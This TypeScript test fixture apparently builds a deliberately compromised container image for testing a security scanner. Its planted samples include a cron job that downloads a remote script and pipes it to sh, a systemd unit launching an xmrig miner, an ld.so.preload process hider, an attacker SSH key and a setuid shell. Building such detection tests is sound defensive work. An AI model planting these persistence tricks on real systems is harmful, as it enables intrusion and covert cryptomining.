/**
 * The planted test image: a base layer made of real Debian files (taken from the Debian test
 * image's rootfs: the dpkg status database, util-linux's and dpkg's file lists (merged /usr: they name /bin/su), the setuid /usr/bin/su,
 * dpkg's cron job), a layer with every planted secret, malicious file and persistence trick, and
 * a top layer that deletes some of them (whiteouts): they must still be found in layer 1.
 */
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { FileSpec, ImageSpec } from '../images.js'
import { plantedMalware, plantedMalwareFiles, plantedSecretFiles, plantedSecrets, type PlantedMalware, type PlantedSecret } from './planted.js'

/** Paths layer 2 deletes. */
export const DELETED = [
  'root/.aws/credentials',
  'root/.ssh/id_rsa',
  'opt/.x/config.json',
  'usr/local/bin/update.sh',
  'var/www/html/wp-content/uploads/img.php',
] as const

/** Persistence and file-mode tricks planted in layer 1, with the finding each must give. */
export const PLANTED_FACTS: readonly { path: string; id: string; file: FileSpec; at?: string }[] = [
  { path: 'etc/cron.d/sysupdate', id: 'persistence-cron', file: '*/10 * * * * root curl -fsSL http://203.0.113.7/x.sh | sh\n' },
  { path: 'etc/systemd/system/kworker.service', id: 'persistence-systemd', file: '[Unit]\nDescription=kworker\n[Service]\nExecStart=/opt/.x/xmrig\nRestart=always\n[Install]\nWantedBy=multi-user.target\n' },
  { path: 'etc/ld.so.preload', id: 'ld-preload', file: '/usr/local/lib/libprocesshider.so\n' },
  { path: 'root/.ssh/authorized_keys', id: 'ssh-authorized-keys', file: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFn5pWcuyy1bOe0F8XGnBw6rfTvbm6q1MxwYAQ3bzx0y attacker@box\n' },
  { path: 'usr/local/bin/.suid-sh', id: 'setuid-unowned', file: { content: '#!/bin/sh\nexec /bin/sh -p\n', mode: 0o4755 } },
  { path: 'srv/shared/upload.cfg', id: 'IMG-009', file: { content: 'writable=yes\n', mode: 0o666 } },
  { path: 'var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_InRelease', id: 'IMG-008', file: 'Origin: Debian\n', at: 'var/lib/apt/lists' },
  { path: 'usr/bin/sudo', id: 'IMG-010', file: { content: Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), mode: 0o4755 } },
]

/** Real Debian files for the base layer, read from the Debian test image's unpacked rootfs. */
function baseLayer(rootfs: string): Record<string, FileSpec> {
  const read = (p: string): Buffer => readFileSync(join(rootfs, p))
  return {
    'etc/os-release': { content: read('usr/lib/os-release') },
    'var/lib/dpkg/status': { content: read('var/lib/dpkg/status') },
    'var/lib/dpkg/info/util-linux.list': { content: read('var/lib/dpkg/info/util-linux.list') },
    'var/lib/dpkg/info/dpkg.list': { content: read('var/lib/dpkg/info/dpkg.list') },
    'usr/bin/su': { content: read('usr/bin/su'), mode: 0o4755 },
    'etc/cron.daily/dpkg': { content: read('etc/cron.daily/dpkg'), mode: 0o755 },
  }
}

/** The planted image spec plus what must be found in it. */
export function plantedImage(rootfs: string): { spec: ImageSpec; secrets: PlantedSecret[]; malware: PlantedMalware[] } {
  const secrets = plantedSecrets()
  const malware = plantedMalware()
  const layer1: Record<string, FileSpec> = { ...plantedSecretFiles(secrets), ...plantedMalwareFiles(malware) }
  for (const f of PLANTED_FACTS) layer1[f.path] = f.file
  const spec: ImageSpec = {
    layers: [{ files: baseLayer(rootfs) }, { files: layer1 }, { whiteouts: [...DELETED] }],
    history: [
      { created_by: '/bin/sh -c #(nop) ADD file:debian-base in /' },
      { created_by: 'COPY . / # buildkit' },
      { created_by: '/bin/sh -c rm -rf /root/.aws /root/.ssh/id_rsa /opt/.x/config.json /usr/local/bin/update.sh /var/www/html/wp-content/uploads/img.php' },
    ],
    config: { Cmd: ['/bin/sh'], ExposedPorts: { '22/tcp': {} } },
  }
  return { spec, secrets, malware }
}
